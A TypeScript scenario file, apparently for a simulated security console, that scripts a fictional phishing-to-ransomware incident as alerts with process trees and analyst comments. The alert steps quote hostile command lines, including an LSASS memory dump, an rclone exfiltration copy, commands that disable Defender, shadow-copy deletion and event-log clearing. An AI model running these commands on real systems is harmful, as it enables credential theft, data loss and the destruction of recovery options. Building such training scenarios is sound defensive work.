// A phish in the dispatch office becomes ransomware on the virtual machines of the terminal system.
import { mail, mailCluster } from '../applications.ts';
import { azureResource } from '../clouds.ts';
import {
  DEVICES,
  file,
  fileHash,
  hostLogonSession,
  malware,
  processChain,
  registryKey,
  registryValue,
  virtualMachine,
} from '../devices.ts';
import type { Host, ProcessStep } from '../devices.ts';
import { connection, dns, ip, url } from '../network.ts';
import {
  account,
  activeDirectoryDomain,
  ANALYSTS,
  mailbox,
  PEOPLE,
  securityGroup,
  SERVICE_ACCOUNTS,
  SYSTEM_ACCOUNT,
  user,
} from '../people.ts';
import type { Person } from '../people.ts';
import { inOrder, seen } from '../script.ts';
import type { AlertScript, IncidentScript, Judgement, Sighting } from '../script.ts';

const station = DEVICES['ws-dispatch-03'];
const dispatcher = PEOPLE.nadia;
const admin = SERVICE_ACCOUNTS.domainAdmin;
const lure = 'RE: Berth 14 schedule change - please confirm';
const lureUrl = 'https://docs-harborline.example/d/berth14';
// The name shows as "berth14_scheduleexe.pdf": U+202E turns what follows around.
const dropped = file(station, 'C:\\Users\\nbenali\\Downloads\\berth14_schedule\u202Efdp.exe');
const beacon = '203.0.113.18';
const beaconName = 'cdn.portcall-sync.example';
const locker = 'C:\\Windows\\Temp\\hl.exe';
const recoveryVault = azureResource(
  'production',
  'rg-backup',
  'Microsoft.RecoveryServices/vaults',
  'rsv-terminal-ops',
);
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const cmd = 'C:\\Windows\\System32\\cmd.exe';

const BAD = { verdict: 'malicious', remediation: 'active' } as const;
const STOPPED = { verdict: 'malicious', remediation: 'prevented' } as const;

const messageTo = (to: Person) =>
  mail({
    to,
    from: ['Port Agent Desk', 'agent.desk@harborline-agents.example'],
    subject: lure,
    senderIp: '192.0.2.209',
    urls: [lureUrl],
    threats: ['Phish', 'Malware'],
    found: ['URL detonation', 'Advanced filter'],
  });

const messages = [PEOPLE.nadia, PEOPLE.marek, PEOPLE.oscar, PEOPLE.finn].map(messageTo);

interface OnDevice {
  readonly host: Host;
  readonly after: string;
  readonly title: string;
  readonly severity: AlertScript['severity'];
  readonly category: string;
  readonly techniques: readonly string[];
  readonly tells: string;
  readonly as?: Readonly<Record<string, unknown>>;
  readonly steps: readonly ProcessStep[];
  readonly judgement?: Judgement;
  readonly also?: readonly Sighting[];
  readonly from?: AlertScript['from'];
  readonly tags?: readonly string[];
}

/** An endpoint alert: the device, its process tree, and for a virtual machine its Azure resource too. */
const onDevice = (event: OnDevice): AlertScript => {
  const on = DEVICES[event.host];
  const isVirtual = on['vmMetadata'] !== null;
  return {
    after: event.after,
    from: event.from ?? 'endpoint',
    title: event.title,
    severity: event.severity,
    category: event.category,
    techniques: event.techniques,
    tells: event.tells,
    advice:
      'Isolate the device. Reset the accounts that were used on it. Look for the same hashes elsewhere.',
    tags: event.tags ?? [],
    evidence: [
      seen(on, 'compromised', {
        detailedRoles: ['Main device'],
        verdict: 'suspicious',
        remediation: 'active',
      }),
      ...(isVirtual ? [seen(virtualMachine(event.host), 'attacked')] : []),
      ...processChain({
        on,
        as: event.as ?? account(admin),
        steps: event.steps,
        judgement: event.judgement ?? BAD,
      }),
      ...(event.also ?? []),
    ],
  };
};

const phish: readonly AlertScript[] = [
  {
    after: '0m',
    from: 'office',
    title: 'A potentially malicious URL click was detected',
    severity: 'high',
    category: 'InitialAccess',
    techniques: ['T1566.002', 'T1204.001'],
    tells:
      'Nadia Benali opened a link in a message that Safe Links found malicious four minutes later.',
    evidence: [
      seen(messages[0] ?? messageTo(dispatcher), 'attacker', {
        verdict: 'malicious',
        remediation: 'remediated',
      }),
      seen(url(lureUrl), 'suspicious', { verdict: 'malicious', remediation: 'blocked' }),
      seen(mailbox(dispatcher), 'attacked'),
      seen(user(dispatcher), 'compromised', { verdict: 'suspicious', remediation: 'active' }),
      seen(ip('192.0.2.209'), 'source', { verdict: 'malicious' }),
    ],
  },
  {
    after: '6m',
    from: 'office',
    title: 'Email messages from a campaign removed after delivery',
    severity: 'low',
    category: 'InitialAccess',
    techniques: ['T1566.002'],
    tells: 'Four messages with the same lure were found and removed; one had been opened.',
    status: 'resolved',
    investigation: 'successfullyRemediated',
    evidence: [
      ...messages.map((message) =>
        seen(message, 'suspicious', { verdict: 'malicious', remediation: 'remediated' }),
      ),
      seen(mailCluster(lure, 4, messages), 'suspicious', {
        verdict: 'malicious',
        remediation: 'remediated',
      }),
      seen(url(lureUrl), 'suspicious', { verdict: 'malicious', remediation: 'blocked' }),
    ],
  },
  onDevice({
    host: 'ws-dispatch-03',
    after: '9m',
    title: 'File with a disguised extension was launched',
    severity: 'medium',
    category: 'DefenseEvasion',
    techniques: ['T1036.002', 'T1204.002'],
    tells:
      'The name of the file contains a right-to-left override: it looks like a PDF and is a program.',
    as: account(dispatcher),
    steps: [
      ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
      [
        'C:\\Users\\nbenali\\Downloads\\berth14_schedule\u202Efdp.exe',
        '"C:\\Users\\nbenali\\Downloads\\berth14_schedule\u202Efdp.exe"',
      ],
    ],
    also: [
      seen(dropped, 'suspicious', BAD),
      seen(user(dispatcher), 'compromised'),
      seen(
        fileHash('sha1', 'C:\\Users\\nbenali\\Downloads\\berth14_schedule\u202Efdp.exe'),
        'suspicious',
      ),
    ],
  }),
  onDevice({
    host: 'ws-dispatch-03',
    after: '11m',
    title: 'Suspicious PowerShell command line',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1059.001', 'T1027'],
    tells: 'An encoded command was started by a file from the downloads folder.',
    as: account(dispatcher),
    steps: [
      [
        'C:\\Users\\nbenali\\Downloads\\berth14_schedule\u202Efdp.exe',
        '"C:\\Users\\nbenali\\Downloads\\berth14_schedule\u202Efdp.exe"',
      ],
      [
        cmd,
        'cmd.exe /c powershell -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==',
      ],
      [
        powershell,
        'powershell -nop -w hidden -enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEkATwAuAE0AZQBtAG8AcgB5AFMAdAByAGUAYQBtAA==',
      ],
    ],
  }),
  onDevice({
    host: 'ws-dispatch-03',
    after: '14m',
    title: 'Cobalt Strike-like command and control behavior',
    severity: 'high',
    category: 'CommandAndControl',
    techniques: ['T1071.001', 'T1573.002'],
    tells: `rundll32.exe connects to ${beaconName} every 61 seconds with jitter.`,
    as: account(dispatcher),
    steps: [
      [powershell, 'powershell -nop -w hidden -enc JABzAD0A...'],
      ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\ProgramData\\sync.dll,Start'],
    ],
    also: [
      seen(dns(beaconName, '10.30.2.13', [beacon]), 'suspicious', { verdict: 'malicious' }),
      seen(connection(['10.30.2.13', 50233], [beacon, 443]), 'suspicious'),
      seen(ip(beacon), 'commandAndControl', { verdict: 'malicious' }),
      seen(file(station, 'C:\\ProgramData\\sync.dll'), 'loaded', BAD),
    ],
  }),
  onDevice({
    host: 'ws-dispatch-03',
    after: '21m',
    title: 'Anomalous registry value created for persistence',
    severity: 'medium',
    category: 'Persistence',
    techniques: ['T1547.001'],
    tells: 'A Run value starts the same library at every sign-in.',
    as: account(dispatcher),
    steps: [
      ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\ProgramData\\sync.dll,Start'],
      [
        'C:\\Windows\\System32\\reg.exe',
        'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v TideSync /d "rundll32 C:\\ProgramData\\sync.dll,Start" /f',
      ],
    ],
    also: [
      seen(
        registryKey('HKEY_LOCAL_MACHINE', 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'),
        'edited',
      ),
      seen(
        registryValue(station, 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run', [
          'TideSync',
          'rundll32 C:\\ProgramData\\sync.dll,Start',
        ]),
        'created',
        BAD,
      ),
    ],
  }),
];

const credentials: readonly AlertScript[] = [
  onDevice({
    host: 'ws-dispatch-03',
    after: '2h04m',
    title: 'Suspicious sequence of exploration activities',
    severity: 'low',
    category: 'Discovery',
    techniques: ['T1087.002', 'T1482'],
    tells: 'whoami, net group, nltest and quser within a minute.',
    as: account(dispatcher),
    steps: [
      ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\ProgramData\\sync.dll,Start'],
      [
        cmd,
        'cmd.exe /c whoami /groups & net group "Domain Admins" /domain & nltest /domain_trusts & quser',
      ],
    ],
  }),
  {
    after: '2h11m',
    from: 'identity',
    title: 'Security principal reconnaissance (LDAP)',
    severity: 'medium',
    category: 'Discovery',
    techniques: ['T1087.002', 'T1069.002'],
    tells: 'ws-dispatch-03 asked nwh-dc01 for every member of privileged groups.',
    evidence: [
      seen(station, 'source'),
      seen(DEVICES['nwh-dc01'], ['destination', 'attacked']),
      seen(user(dispatcher), 'compromised'),
      seen(securityGroup('Domain Admins'), 'attacked'),
      seen(securityGroup('Backup Operators'), 'attacked'),
      seen(activeDirectoryDomain(), 'attacked'),
    ],
  },
  onDevice({
    host: 'ws-dispatch-03',
    after: '2h40m',
    title: 'Sensitive credential memory read',
    severity: 'high',
    category: 'CredentialAccess',
    techniques: ['T1003.001'],
    tells:
      'A process opened lsass.exe with rights to read its memory. An administrator had signed in to the device that morning.',
    as: SYSTEM_ACCOUNT,
    steps: [
      ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\ProgramData\\sync.dll,Start'],
      [
        'C:\\Windows\\System32\\rundll32.exe',
        'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\l.bin full',
      ],
    ],
    also: [
      seen(file(station, 'C:\\ProgramData\\l.bin'), 'created', BAD),
      seen(hostLogonSession(station, user(admin)), 'compromised', { verdict: 'suspicious' }),
      seen(user(admin), 'compromised', { verdict: 'suspicious', remediation: 'active' }),
    ],
  }),
  {
    after: '3h02m',
    from: 'identity',
    title: 'Suspected overpass-the-hash attack (Kerberos)',
    severity: 'medium',
    category: 'LateralMovement',
    techniques: ['T1550.002'],
    tells:
      'adm-jlindqvist asked for a ticket from ws-dispatch-03 with an encryption type that this account does not use.',
    evidence: [
      seen(user(admin), 'compromised', BAD),
      seen(station, 'source'),
      seen(DEVICES['nwh-dc01'], 'destination'),
    ],
  },
  {
    after: '5h30m',
    from: 'identity',
    title: 'Suspected Golden Ticket usage (encryption downgrade)',
    severity: 'medium',
    category: 'Persistence',
    techniques: ['T1558.001'],
    tells: 'A ticket-granting ticket of adm-jlindqvist does not come from a domain controller.',
    evidence: [
      seen(user(admin), 'compromised', BAD),
      seen(DEVICES['nwh-dc01'], 'attacked'),
      seen(activeDirectoryDomain(), 'attacked'),
    ],
  },
];

const SERVERS = [
  'nwh-file01',
  'nwh-dc01',
  'vm-jump01',
  'vm-tos-app01',
  'vm-tos-app02',
  'vm-tos-sql01',
] as const;

const movement: readonly AlertScript[] = [
  ...SERVERS.map((host, index) =>
    onDevice({
      host,
      after: `${20 + index}h${(10 + index * 7).toString()}m`,
      title: host === 'nwh-dc01' ? 'Suspicious service registration' : 'Suspicious remote activity',
      severity: 'medium',
      category: 'LateralMovement',
      techniques: host === 'nwh-dc01' ? ['T1569.002', 'T1021.002'] : ['T1021.002'],
      tells: `A service was started on ${host} from another device, with the account adm-jlindqvist.`,
      steps: [
        ['C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe'],
        [cmd, 'cmd.exe /c start /b C:\\Windows\\Temp\\svch.exe'],
      ],
      also: [
        seen(index === 0 ? station : DEVICES['nwh-file01'], 'source', { verdict: 'suspicious' }),
        seen(hostLogonSession(DEVICES[host], user(admin)), 'compromised'),
        seen(user(admin), 'compromised', BAD),
        seen(
          connection(
            [index === 0 ? '10.30.2.13' : '10.10.1.21', 49800 + index],
            [String(DEVICES[host]['lastIpAddress']), 445],
          ),
          'suspicious',
        ),
      ],
    }),
  ),
  {
    after: '20h40m',
    from: 'identity',
    title: 'Suspected DCSync attack (replication of directory services)',
    severity: 'high',
    category: 'CredentialAccess',
    techniques: ['T1003.006'],
    tells: 'nwh-file01, which is no domain controller, asked nwh-dc01 to replicate secrets.',
    evidence: [
      seen(DEVICES['nwh-file01'], 'source', BAD),
      seen(DEVICES['nwh-dc01'], 'attacked'),
      seen(user(admin), 'compromised', BAD),
      seen(activeDirectoryDomain(), 'attacked'),
    ],
  },
  ...(['nwh-file01', 'nwh-dc01'] as const).map((host, index): AlertScript => ({
    after: `${20 + index}h${15 + index * 7}m`,
    from: 'identity',
    title: 'Remote code execution attempt over PsExec or WMI',
    severity: 'medium',
    category: 'Execution',
    techniques: ['T1569.002', 'T1047'],
    tells: `adm-jlindqvist started a service on ${host} over the network.`,
    evidence: [
      seen(index === 0 ? station : DEVICES['nwh-file01'], 'source'),
      seen(DEVICES[host], 'attacked'),
      seen(user(admin), 'compromised', BAD),
    ],
  })),
  onDevice({
    host: 'nwh-file01',
    after: '22h15m',
    title: 'Staging of data in an archive',
    severity: 'medium',
    category: 'Collection',
    techniques: ['T1560.001'],
    tells: '7-Zip packed 46 GB of contracts with a password.',
    steps: [
      [
        cmd,
        'cmd.exe /c C:\\Windows\\Temp\\7z.exe a -mx1 -pH4rb0r! D:\\Shares\\tmp\\c.7z D:\\Shares\\Contracts',
      ],
      [
        'C:\\Windows\\Temp\\7z.exe',
        'C:\\Windows\\Temp\\7z.exe a -mx1 -pH4rb0r! D:\\Shares\\tmp\\c.7z D:\\Shares\\Contracts',
      ],
    ],
  }),
  onDevice({
    host: 'nwh-file01',
    after: '23h05m',
    title: 'Possible data exfiltration with a synchronisation tool',
    severity: 'high',
    category: 'Exfiltration',
    techniques: ['T1567.002'],
    tells: 'rclone copied the archive to a storage service.',
    steps: [
      [cmd, 'cmd.exe /c C:\\Windows\\Temp\\svch.exe'],
      [
        'C:\\Windows\\Temp\\rclone.exe',
        'rclone.exe copy D:\\Shares\\tmp\\c.7z mega:drop --transfers 8 --no-check-certificate',
      ],
    ],
    also: [seen(ip('192.0.2.163'), 'destination', { verdict: 'suspicious' })],
  }),
];

const MACHINES = ['vm-tos-app01', 'vm-tos-app02', 'vm-tos-sql01'] as const;

const impact: readonly AlertScript[] = [
  ...MACHINES.map((host, index): AlertScript => ({
    after: `1d11h${5 + index}m`,
    from: 'cloudServers',
    type: 'VM_AmDisablement',
    title: 'Antimalware disabled in your virtual machine',
    severity: 'medium',
    category: 'DefenseEvasion',
    techniques: ['T1562.001'],
    tells: `The antimalware extension of ${host} was turned off through Azure Resource Manager.`,
    evidence: [
      seen(virtualMachine(host), 'attacked', { verdict: 'suspicious', remediation: 'active' }),
      seen(DEVICES[host], 'attacked'),
      seen(user(admin), 'source', BAD),
    ],
  })),
  ...MACHINES.map((host, index) =>
    onDevice({
      host,
      after: `1d11h${12 + index}m`,
      title: 'Attempt to turn off Microsoft Defender Antivirus protection',
      severity: 'high',
      category: 'DefenseEvasion',
      techniques: ['T1562.001'],
      tells: `Real-time protection of ${host} was turned off, then an exclusion was added for C:\\Windows\\Temp.`,
      steps: [
        [cmd, 'cmd.exe /c C:\\Windows\\Temp\\svch.exe'],
        [
          powershell,
          'powershell -c "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Windows\\Temp"',
        ],
      ],
    }),
  ),
  ...MACHINES.map((host, index) =>
    onDevice({
      host,
      after: `1d11h${52 + index}m`,
      title: 'Event log was cleared',
      severity: 'medium',
      category: 'DefenseEvasion',
      techniques: ['T1070.001'],
      tells: `Security, System and Application logs of ${host} were cleared after the encryption.`,
      as: SYSTEM_ACCOUNT,
      steps: [
        [locker, 'C:\\Windows\\Temp\\hl.exe -path all -nomutex'],
        ['C:\\Windows\\System32\\wevtutil.exe', 'wevtutil.exe cl Security'],
      ],
    }),
  ),
  {
    after: '1d11h20m',
    from: 'cloudResourceManager',
    type: 'ARM_AnomalousOperation.Impact',
    title: "Suspicious invocation of a high-risk 'Impact' operation detected (Preview)",
    severity: 'medium',
    category: 'Impact',
    techniques: ['T1490', 'T1485'],
    tells:
      'Recovery points of three virtual machines were deleted from rsv-terminal-ops after soft delete had been turned off.',
    evidence: [
      seen(recoveryVault, ['attacked', 'edited'], {
        verdict: 'suspicious',
        remediation: 'partiallyRemediated',
        details: 'Two of three restored from immutable copies',
      }),
      seen(user(admin), ['source', 'compromised'], BAD),
      seen(ip('203.0.113.18'), 'source', { verdict: 'malicious' }),
      ...MACHINES.map((host) => seen(virtualMachine(host), 'attacked')),
    ],
  },
  ...MACHINES.map((host, index) =>
    onDevice({
      host,
      after: `1d11h${32 + index}m`,
      title: 'File backups were deleted',
      severity: 'medium',
      category: 'Impact',
      techniques: ['T1490'],
      tells: 'Shadow copies were deleted and automatic repair was turned off.',
      as: SYSTEM_ACCOUNT,
      steps: [
        [locker, 'C:\\Windows\\Temp\\hl.exe -path all -nomutex'],
        [
          cmd,
          'cmd.exe /c vssadmin.exe delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no',
        ],
        ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
      ],
    }),
  ),
  ...MACHINES.map((host, index) =>
    onDevice({
      host,
      after: `1d11h${40 + index}m`,
      title: 'Ransomware behavior detected in the file system',
      severity: 'high',
      category: 'Impact',
      techniques: ['T1486'],
      tells: `Files on ${host} get the extension .hlock, and README_HARBOR.txt appears in every folder.`,
      as: SYSTEM_ACCOUNT,
      steps: [
        ['C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe'],
        [locker, 'C:\\Windows\\Temp\\hl.exe -path all -nomutex'],
      ],
      judgement: index === 2 ? STOPPED : BAD,
      also: [
        seen(file(DEVICES[host], locker), 'suspicious', index === 2 ? STOPPED : BAD),
        seen(
          malware('Ransom:Win64/HarborLock.A', 'Ransomware', [file(DEVICES[host], locker)]),
          'suspicious',
          BAD,
        ),
        seen(file(DEVICES[host], 'D:\\TOS\\Data\\README_HARBOR.txt'), 'created'),
      ],
      tags: ['Ransomware'],
    }),
  ),
  onDevice({
    host: 'nwh-file01',
    after: '1d11h44m',
    title: 'Ransomware-linked emerging threat activity group detected',
    severity: 'high',
    category: 'Impact',
    techniques: ['T1486'],
    tells: 'The tools and their order are those of a group that this tenant follows as Storm-9001.',
    steps: [
      ['C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe'],
      [locker, 'C:\\Windows\\Temp\\hl.exe -path D:\\Shares -nomutex'],
    ],
    judgement: STOPPED,
    tags: ['Ransomware'],
  }),
  {
    after: '1d11h46m',
    from: 'xdr',
    title: 'Account adm-jlindqvist was contained by automatic attack disruption',
    severity: 'high',
    category: 'Impact',
    techniques: ['T1486'],
    tells: 'The account was disabled and blocked on all onboarded devices to stop the encryption.',
    tags: ['Attack Disruption', 'Ransomware'],
    evidence: [
      seen(user(admin), ['compromised', 'attacker'], {
        verdict: 'malicious',
        remediation: 'remediated',
        details: 'Account disabled',
      }),
      seen(DEVICES['vm-tos-app01'], 'attacked'),
      seen(DEVICES['nwh-file01'], 'attacked', {
        remediation: 'remediated',
        details: 'Device isolated',
      }),
    ],
  },
];

export const RANSOMWARE: IncidentScript = {
  key: 'ransomware',
  id: '4186',
  startsAt: '-2d 07:51',
  name: 'HarborLock ransomware on terminal virtual machines after phishing (attack disruption)',
  tells:
    'A phishing mail to the dispatch office led to the theft of an administrator account, to the deletion of recovery points in Azure, and to encryption on two of three virtual machines of the terminal operating system.',
  summary:
    'Entry: mail to Nadia Benali. Spread: adm-jlindqvist. Impact: vm-tos-app01 and vm-tos-app02 encrypted, vm-tos-sql01 protected.',
  status: 'inProgress',
  assignedTo: ANALYSTS.robin,
  classification: 'truePositive',
  determination: 'multiStagedAttack',
  priority: 99,
  systemTags: ['Ransomware', 'Attack Disruption', 'Critical asset'],
  customTags: ['P1', 'War room 2'],
  comments: [
    {
      after: '3h40m',
      by: ANALYSTS.lin,
      text: 'ws-dispatch-03 isolated. Nadia has a replacement device.',
    },
    {
      after: '1d11h58m',
      by: ANALYSTS.robin,
      text: 'Terminal operations switched to paper at 20:10 UTC. Bridge open.',
    },
    {
      after: '1d13h',
      by: ANALYSTS.amara,
      text: 'Two of three recovery points are back from the immutable vault.',
    },
  ],
  alerts: inOrder(phish, credentials, movement, impact),
  continues: [
    onDevice({
      host: 'vm-jump01',
      after: '0s',
      title: 'Suspicious connection to a known command and control address was blocked',
      severity: 'medium',
      category: 'CommandAndControl',
      techniques: ['T1071.001'],
      tells: `Another device asks for ${beaconName}.`,
      steps: [
        ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\ProgramData\\sync.dll,Start'],
      ],
      judgement: { verdict: 'malicious', remediation: 'blocked' },
      also: [
        seen(ip(beacon), 'commandAndControl', { verdict: 'malicious', remediation: 'blocked' }),
      ],
    }),
    onDevice({
      host: 'nwh-dc02',
      after: '0s',
      title: 'Sign-in attempt with a contained account',
      severity: 'low',
      category: 'LateralMovement',
      techniques: ['T1078.002'],
      tells: 'adm-jlindqvist was tried against nwh-dc02 and refused.',
      steps: [['C:\\Windows\\System32\\lsass.exe', 'C:\\Windows\\system32\\lsass.exe']],
      judgement: { verdict: 'suspicious', remediation: 'blocked' },
    }),
  ],
};
